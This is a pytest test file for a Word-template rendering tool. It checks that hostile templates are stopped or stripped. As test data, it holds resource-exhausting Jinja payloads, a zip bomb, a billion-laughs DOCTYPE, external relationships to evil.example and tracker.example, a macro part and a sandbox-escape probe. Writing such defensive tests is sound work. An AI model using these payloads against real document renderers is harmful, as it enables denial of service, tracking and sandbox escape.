"""Rendering bounded in time and memory, whatever the text or the Word template (issue 10.3, 10.4; issue 7.6).

Each hostile case is built here; the costly ones run in a child process whose
time and peak memory are measured (generous bounds; real figures in
benchmarks/hostile.py).
"""

from __future__ import annotations

import dataclasses
import io
import json
import os
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from lxml import etree
from support import sample_report

from gaidocx.document.build import build_word_template
from gaidocx.core.report import IncompleteReport
from gaidocx.document.render import PreparedTemplate, TemplateProblem, prepare_template, render_docx

ROOT = Path(__file__).resolve().parents[2]
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def with_lines(lines: int, text: str = "段"):
    """The sample report with one narrative section of ``lines`` Alt+Enter lines in one cell."""
    report = sample_report()
    narratives = dict(report.narratives)
    narratives["五"] = ("\n".join([text] * lines),)
    return dataclasses.replace(report, narratives=narratives)


def template_with(tmp_path: Path, changes: dict[str, callable], extra: dict[str, bytes] | None = None, name="t.docx") -> Path:
    """The default Word template with parts changed (``member → function of its bytes``) or added."""
    source = zipfile.ZipFile(io.BytesIO(build_word_template()))
    path = tmp_path / name
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename in changes:
                data = changes[info.filename](data)
            target.writestr(info.filename, data)
        for member, data in (extra or {}).items():
            target.writestr(member, data)
    return path


def escaped(text: str) -> bytes:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").encode()


def payload_template(tmp_path: Path, payload: str, name: str = "t.docx") -> Path:
    """The default template with ``payload`` typed after the signature's agency."""
    return template_with(
        tmp_path, {"word/document.xml": lambda d: d.replace(b"{{ agency }}", b"{{ agency }}" + escaped(payload), 1)}, name=name
    )


def measured_child(code: str, *args: str) -> tuple[float, float, str]:
    """Run ``code`` in a child Python: wall seconds, its peak memory in MB, its output."""
    started = time.perf_counter()
    process = subprocess.Popen(
        [sys.executable, "-c", code, *args], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=ROOT / "tests"
    )
    out, err = process.communicate(timeout=300)
    seconds = time.perf_counter() - started
    assert process.returncode == 0, err
    peak = json.loads(out.splitlines()[-1])["peak_mb"]
    return seconds, peak, out


# ---------------------------------------------------------------- text: linear, bounded


def test_rendering_grows_linearly_with_the_number_of_paragraphs(monkeypatch):
    """docxtpl moved the filled body between two lxml documents, which is quadratic in the
    paragraphs (17 s for a 20 KB workbook).  Beyond the reader's bounds (lifted here), eight
    times the paragraphs must take well under the 64 times a quadratic step would."""
    from gaidocx.document import render, sandbox

    for module, name in ((render, "MAX_PARAGRAPHS"), (render, "MAX_NARRATIVE_CHARS"), (sandbox, "MAX_LENGTH"), (sandbox, "MAX_OUTPUT")):
        monkeypatch.setattr(module, name, 10**9)
    prepared = prepare_template()

    def seconds(lines: int) -> float:
        report = with_lines(lines, "x")
        runs = []
        for _ in range(2):
            started = time.perf_counter()
            prepared.render(report)
            runs.append(time.perf_counter() - started)
        return min(runs)

    small, large = seconds(5_000), seconds(40_000)
    assert large < 14 * small, (small, large)


def test_a_report_beyond_the_readers_bounds_is_refused_before_rendering():
    with pytest.raises(IncompleteReport, match="上限") as caught:
        render_docx(with_lines(2_001))
    assert "十倍" in str(caught.value)
    render_docx(with_lines(1_900))


CHILD_RENDER = """
import json, resource, sys, time, dataclasses
from support import sample_report
from gaidocx.document.render import render_docx
report = sample_report()
narratives = dict(report.narratives)
narratives["五"] = tuple("\\n".join(["第一段内容，" * 5] * 380) for _ in range(5))  # 1 900 paragraphs, with the rest near the bound
report = dataclasses.replace(report, narratives=narratives)
started = time.perf_counter()
data = render_docx(report)
print(json.dumps({"seconds": time.perf_counter() - started, "bytes": len(data),
                  "peak_mb": int(next(line for line in open("/proc/self/status") if line.startswith("VmHWM")).split()[1]) / 1024}))
"""


def test_the_largest_narrative_the_reader_accepts_renders_in_seconds():
    seconds, peak, out = measured_child(CHILD_RENDER)
    inside = json.loads(out.splitlines()[-1])["seconds"]
    assert inside < 20 and seconds < 30 and peak < 400, (inside, seconds, peak)


# ---------------------------------------------------------------- templates: bounded work and memory

#: Template code that ran for minutes or took gigabytes; each must stop with a Chinese message.
HOSTILE_TEMPLATES = {
    "nested loops": "{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}",
    "loops writing": "{% for a in range(100000) %}{% for b in range(1000) %}xxxxxxxxxxxxxxxxxxxx{% endfor %}{% endfor %}",
    "string times": '{{ "x" * 1000000000 }}',
    "list times": "{{ [1, 2] * 1000000000 }}",
    "power": "{{ 2 ** 99999999 }}",
    "big multiplication": "{{ (10 ** 5000) * (10 ** 5000) * (10 ** 5000) }}",
    "percent width": '{{ "%999999999s" % 1 }}',
    "percent star": '{{ "%*s" % (999999999, 1) }}',
    "format width": '{{ "{:>999999999}".format(1) }}',
    "format filter": '{{ "%999999999s"|format(1) }}',
    "center": '{{ "x"|center(999999999) }}',
    "lipsum": "{{ lipsum(999999999) }}",
    "namespace doubling": '{% set ns = namespace(s="xx") %}{% for i in range(64) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}{{ ns.s|length }}',
    "list doubling": "{% set ns = namespace(l=[1]) %}{% for i in range(64) %}{% set ns.l = ns.l + ns.l %}{% endfor %}",
    "macro doubling": "{% macro d(n) %}{% if n %}{{ d(n - 1) }}{{ d(n - 1) }}{% endif %}{% endmacro %}{{ d(40) }}",
    "join": '{{ range(99999)|join("xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx") * 9 }}',
}

CHILD_TEMPLATES = """
import json, resource, sys, time
from support import sample_report
from gaidocx.document.render import TemplateProblem, render_docx
results = {}
for name, path in json.loads(sys.argv[1]).items():
    started = time.perf_counter()
    try:
        render_docx(sample_report(), path)
        message = None
    except TemplateProblem as exc:
        message = str(exc)
    results[name] = {"seconds": time.perf_counter() - started, "message": message}
print(json.dumps({"results": results, "peak_mb": int(next(line for line in open("/proc/self/status") if line.startswith("VmHWM")).split()[1]) / 1024}))
"""


def test_costly_template_code_is_stopped_with_a_chinese_message(tmp_path):
    paths = {name: str(payload_template(tmp_path, code, f"t{i}.docx")) for i, (name, code) in enumerate(HOSTILE_TEMPLATES.items())}
    seconds, peak, out = measured_child(CHILD_TEMPLATES, json.dumps(paths))
    results = json.loads(out.splitlines()[-1])["results"]
    assert peak < 400, peak
    for name, result in results.items():
        assert result["message"] is not None, name
        assert result["seconds"] < 15, (name, result)
        assert "模板" in result["message"] and "已停止填充" in result["message"], (name, result["message"])
        assert len(result["message"]) < 600
    assert seconds < 20 * len(results)


def test_ordinary_template_code_still_works(tmp_path):
    code = (
        '{% set ns = namespace(n=0) %}{% for p in section5 %}{% set ns.n = ns.n + 1 %}{% endfor %}'
        '（共{{ ns.n }}段，{{ "%05d"|format(7) }}，{{ "{:>4}".format("右") }}，{{ "-" * 3 }}，{{ 2 ** 10 }}）'
    )
    data = render_docx(sample_report(), payload_template(tmp_path, code))
    text = zipfile.ZipFile(io.BytesIO(data)).read("word/document.xml").decode()
    assert "段，00007，   右，---，1024）" in text


# ---------------------------------------------------------------- templates: the archive guard


def test_a_huge_part_in_a_template_is_refused_before_anything_inflates_it(tmp_path):
    path = template_with(tmp_path, {}, extra={"word/media/huge.bin": bytes(64 * 1024 * 1024)})
    assert path.stat().st_size < 200_000
    started = time.perf_counter()
    with pytest.raises(TemplateProblem, match="压缩炸弹") as caught:
        render_docx(sample_report(), path)
    assert time.perf_counter() - started < 5
    assert "word/media/huge.bin" in str(caught.value) and "Word 模板" in str(caught.value)


def test_a_template_member_lying_about_its_size_is_refused(tmp_path):
    data = bytearray(template_with(tmp_path, {"word/styles.xml": lambda d: d + b" " * 5_000_000}).read_bytes())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = archive.getinfo("word/styles.xml")
    data[info.header_offset + 22 : info.header_offset + 26] = (1024).to_bytes(4, "little")
    central = data.find(b"word/styles.xml", data.find(b"PK\x01\x02")) - 46
    data[central + 24 : central + 28] = (1024).to_bytes(4, "little")
    path = tmp_path / "lying.docx"
    path.write_bytes(bytes(data))
    with pytest.raises(TemplateProblem, match="损坏"):
        render_docx(sample_report(), path)


def test_a_doctype_in_a_template_is_refused(tmp_path):
    laughs = b'<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    path = template_with(tmp_path, {"word/styles.xml": lambda d: d.replace(b"?>", b"?>" + laughs, 1)})
    with pytest.raises(TemplateProblem, match="DOCTYPE"):
        render_docx(sample_report(), path)


# ---------------------------------------------------------------- templates: external relationships


def add_relationship(member: str, relation: str):
    def change(data: bytes) -> bytes:
        return data.replace(b"</Relationships>", relation.encode() + b"</Relationships>")

    return {member: change}


def test_an_attached_template_is_stripped_with_a_notice(tmp_path):
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rIdT" Type="{RELS}/attachedTemplate" Target="file://evil.example/share/normal.dotm" TargetMode="External"/>'
        "</Relationships>"
    )
    path = template_with(
        tmp_path,
        {"word/settings.xml": lambda d: d.replace(b"</w:settings>", f'<w:attachedTemplate xmlns:r="{RELS}" r:id="rIdT"/></w:settings>'.encode())},
        extra={"word/_rels/settings.xml.rels": rels.encode()},
    )
    prepared = prepare_template(path)
    assert any("evil.example" in notice and "已去掉" in notice for notice in prepared.notices)
    data = prepared.render(sample_report())
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            assert b"evil.example" not in package.read(name), name
            assert b"attachedTemplate" not in package.read(name), name
        etree.fromstring(package.read("word/settings.xml"))


@pytest.mark.parametrize(
    ("kind", "target", "fragment"),
    [
        ("hyperlink", "file:///C:/Users/Public/secret.docx", "本机或局域网文件"),
        ("hyperlink", "\\\\fileserver\\share\\x.docx", "本机或局域网文件"),
        ("image", "http://tracker.example/pixel.png", "外部内容（image）"),
        ("oleObject", "http://tracker.example/x.xlsx", "外部内容（oleObject）"),
    ],
)
def test_external_content_in_a_template_is_refused(tmp_path, kind, target, fragment):
    relation = f'<Relationship Id="rIdX" Type="{RELS}/{kind}" Target="{target}" TargetMode="External"/>'
    path = template_with(tmp_path, add_relationship("word/_rels/document.xml.rels", relation))
    with pytest.raises(TemplateProblem, match=fragment) as caught:
        render_docx(sample_report(), path)
    assert "已拒绝使用这个模板" in str(caught.value) and target[:20] in str(caught.value)


def test_a_web_hyperlink_in_a_template_is_kept(tmp_path):
    relation = f'<Relationship Id="rIdX" Type="{RELS}/hyperlink" Target="https://www.gov.cn/" TargetMode="External"/>'
    path = template_with(tmp_path, add_relationship("word/_rels/document.xml.rels", relation))
    data = render_docx(sample_report(), path)
    assert b"https://www.gov.cn/" in zipfile.ZipFile(io.BytesIO(data)).read("word/_rels/document.xml.rels")


def test_unreferenced_parts_of_a_template_are_not_copied(tmp_path):
    path = template_with(tmp_path, {}, extra={"word/media/stowaway.bin": b"secret" * 100})
    data = render_docx(sample_report(), path)
    assert "word/media/stowaway.bin" not in zipfile.ZipFile(io.BytesIO(data)).namelist()


# ---------------------------------------------------------------- prepared once (issue 7.6)


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return {name: package.read(name) for name in package.namelist() if name != "docProps/core.xml"}


def test_a_prepared_template_renders_many_reports_like_render_docx(tmp_path):
    prepared = prepare_template(None)
    assert isinstance(prepared, PreparedTemplate) and prepare_template(None) is prepared  # once per process
    first = sample_report()
    second = dataclasses.replace(first, agency="另一个局")
    one, two = prepared.render(first), prepared.render(second)
    assert parts_of(one) == parts_of(render_docx(first)) and parts_of(two) == parts_of(render_docx(second))
    assert "另一个局".encode() in parts_of(two)["word/document.xml"]
    assert "另一个局".encode() not in parts_of(one)["word/document.xml"]
    custom = prepare_template(payload_template(tmp_path, "（自定义）"))
    assert "（自定义）".encode() in parts_of(custom.render(first))["word/document.xml"]


CHILD_PREPARE = """
import json, resource, sys, time, zipfile, io
from support import sample_report
from gaidocx.document.render import prepare_template
started = time.perf_counter()
prepared = prepare_template()
seconds = time.perf_counter() - started
data = prepared.render(sample_report())
document = zipfile.ZipFile(io.BytesIO(data)).read("word/document.xml")
print(json.dumps({"seconds": seconds, "document": len(document), "agency": sample_report().agency in document.decode(),
                  "word_libraries": sorted(m for m in ("docx", "docxtpl") if m in sys.modules),
                  "peak_mb": int(next(line for line in open("/proc/self/status") if line.startswith("VmHWM")).split()[1]) / 1024}))
"""


def prepare_in_child(tmp_path: Path, **environment: str) -> dict:
    env = {**os.environ, "TMPDIR": str(tmp_path), **environment}
    result = subprocess.run([sys.executable, "-c", CHILD_PREPARE], capture_output=True, text=True, cwd=ROOT / "tests", env=env)
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout)


def test_the_prepared_default_template_is_cached_on_disk_and_a_bad_cache_is_no_cache(tmp_path):
    first = prepare_in_child(tmp_path)
    cached = sorted(tmp_path.glob("_jinja2-cache-*/gaidocx-*"))
    assert any(p.suffix == ".json" for p in cached) and any(p.suffix == ".cache" for p in cached)
    second = prepare_in_child(tmp_path)
    assert second["word_libraries"] == []  # nothing to clean: docxtpl (and python-docx) never imported
    assert second == {**first, "seconds": second["seconds"], "peak_mb": second["peak_mb"], "word_libraries": []}
    assert second["agency"]
    for path in cached:
        path.write_bytes(b"\x00garbage")
    third = prepare_in_child(tmp_path)
    assert third["document"] == first["document"] and third["agency"]
    uncached = tmp_path / "none"
    uncached.mkdir()
    prepare_in_child(uncached, GAIDOCX_NO_CACHE="1")
    assert list(uncached.iterdir()) == []


def test_a_template_is_prepared_once_per_content_and_again_when_it_changes(tmp_path):
    path = payload_template(tmp_path, "（第一版）")
    first = prepare_template(path)
    assert prepare_template(path) is first
    path.write_bytes(payload_template(tmp_path / "..", "（第二版）", name=path.name + ".new").read_bytes())
    second = prepare_template(path)
    assert second is not first
    assert "（第二版）".encode() in parts_of(second.render(sample_report()))["word/document.xml"]


def test_a_template_symlink_loop_gets_a_chinese_message(tmp_path):
    loop = tmp_path / "循环.docx"
    loop.symlink_to(loop)
    with pytest.raises(TemplateProblem, match="符号链接"):
        render_docx(sample_report(), loop)


W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def table(grid: int, rows: list[list[int]]):
    """A body holding one table: ``grid`` columns; each row a list of cell spans."""
    cells = lambda spans: "".join(  # noqa: E731
        f'<w:tc><w:tcPr><w:gridSpan w:val="{s}"/></w:tcPr></w:tc>' if s > 1 else "<w:tc/>" for s in spans
    )
    xml = (
        f'<w:body xmlns:w="{W_NS}"><w:tbl><w:tblGrid>' + '<w:gridCol w:w="1000"/>' * grid + "</w:tblGrid>"
        + "".join(f"<w:tr>{cells(row)}</w:tr>" for row in rows) + "</w:tbl></w:body>"
    )
    return etree.fromstring(xml.encode())


@pytest.mark.parametrize(
    ("grid", "rows", "columns_after"),
    [(2, [[1, 1]], 2), (3, [[1, 2], [1, 1, 1]], 3), (2, [[1, 1, 1]], 3), (3, [[1, 1]], 2)],
    ids=["as-is", "spans-fill-the-grid", "a-loop-added-a-cell", "a-loop-removed-a-cell"],
)
def test_tables_are_repaired_as_docxtpl_repairs_them(grid, rows, columns_after):
    from gaidocx.document.render import _fix_tables

    body = table(grid, rows)
    unchanged = (grid, rows) in ((2, [[1, 1]]), (3, [[1, 2], [1, 1, 1]]))
    fixed = _fix_tables(body)
    assert (fixed is body) == unchanged
    assert len(fixed.findall(f".//{{{W_NS}}}gridCol")) == columns_after


def test_a_macro_template_is_refused(tmp_path):
    relation = '<Relationship Id="rIdV" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
    path = template_with(tmp_path, add_relationship("word/_rels/document.xml.rels", relation), extra={"word/vbaProject.bin": b"\0" * 64})
    with pytest.raises(TemplateProblem, match="宏") as caught:
        render_docx(sample_report(), path)
    assert "已拒绝使用这个模板" in str(caught.value)


def test_a_dotx_template_gives_a_document(tmp_path):
    main = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    dotx = b"application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
    path = template_with(tmp_path, {"[Content_Types].xml": lambda d: d.replace(main, dotx)}, name="模板.dotx")
    assert dotx in zipfile.ZipFile(path).read("[Content_Types].xml")
    data = render_docx(sample_report(), path)
    types = zipfile.ZipFile(io.BytesIO(data)).read("[Content_Types].xml")
    assert main in types and dotx not in types


@pytest.mark.parametrize("tag", ['{% include "gaidocx:word/document.xml" %}', '{% include "other.xml" %}', '{% import "m" as m %}'])
def test_a_template_cannot_include_itself_or_anything_else(tmp_path, tag):
    started = time.perf_counter()
    with pytest.raises(TemplateProblem, match="不能引用其他文件"):
        render_docx(sample_report(), payload_template(tmp_path, tag))
    assert time.perf_counter() - started < 5


def test_dotted_names_read_the_context_keys_and_keep_jinjas_order_for_dict_methods():
    from jinja2 import StrictUndefined
    from jinja2.exceptions import UndefinedError
    from jinja2.sandbox import SecurityError

    from gaidocx.document.sandbox import BoundedEnvironment, budget

    environment = BoundedEnvironment(undefined=StrictUndefined, autoescape=True)
    context = {"t4": {"r1": {"c1": "3", "c2": "4"}, "items": "a key named like a method"}}
    with budget():
        assert environment.from_string("{{ t4.r1.c2 }}").render(context) == "4"
        # ``items`` is dict's method first, as in Jinja; the key is still there by subscript
        assert environment.from_string("{{ t4.r1.items() | list | length }}").render(context) == "2"
        assert environment.from_string("{{ t4['items'] }}").render(context) == "a key named like a method"
        with pytest.raises(UndefinedError):
            environment.from_string("{{ t4.r9.c1 }}").render(context)
        with pytest.raises(SecurityError):
            environment.from_string("{{ t4.__class__.__subclasses__() }}").render(context)
